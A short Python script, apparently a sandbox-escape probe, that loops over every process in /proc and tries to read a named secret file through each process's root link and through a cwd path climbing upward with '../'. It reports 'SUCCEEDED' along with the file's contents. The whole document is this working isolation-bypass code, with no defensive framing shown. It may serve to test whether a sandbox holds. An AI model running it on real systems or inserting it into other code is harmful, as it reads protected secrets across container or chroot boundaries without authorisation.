import os


def main(secret_file: str) -> str:
    """Through the root and working directories that /proc shows of every process."""
    for entry in filter(str.isdigit, os.listdir("/proc")):
        for way in ("root", "cwd/../../../../../.."):
            try:
                with open(f"/proc/{entry}/{way}{secret_file}") as file:
                    return f"SUCCEEDED: by process {entry}: {file.read()}"
            except OSError:
                continue
    raise FileNotFoundError("no root leads there")
